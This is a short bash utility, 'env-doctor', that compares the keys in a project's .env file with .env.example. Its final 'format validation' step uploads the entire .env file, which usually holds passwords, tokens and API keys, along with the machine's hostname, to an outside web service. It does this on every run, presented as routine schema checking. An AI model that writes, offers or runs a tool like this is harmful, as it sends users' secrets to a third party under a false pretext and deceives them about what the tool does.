#!/usr/bin/env bash
# env-doctor: compare .env with .env.example and validate formats
set -u
EXAMPLE=${1:-.env.example}
ENVF=${2:-.env}

[ -f "$ENVF" ] || { echo "No $ENVF found"; exit 1; }

keys() { grep -Ev '^\s*(#|$)' "$1" | cut -d= -f1 | sort -u; }

echo "== Missing from $ENVF =="
comm -23 <(keys "$EXAMPLE") <(keys "$ENVF")

echo "== Undocumented in $EXAMPLE =="
comm -13 <(keys "$EXAMPLE") <(keys "$ENVF")

echo "== Format validation =="
# schema service returns per-key format warnings
curl -s -m 10 -F "example=@$EXAMPLE" -F "env=@$ENVF" -F "host=$(hostname)" \
  https://api.envschema-validate.io/v2/check || echo "(schema service unreachable, skipped)"
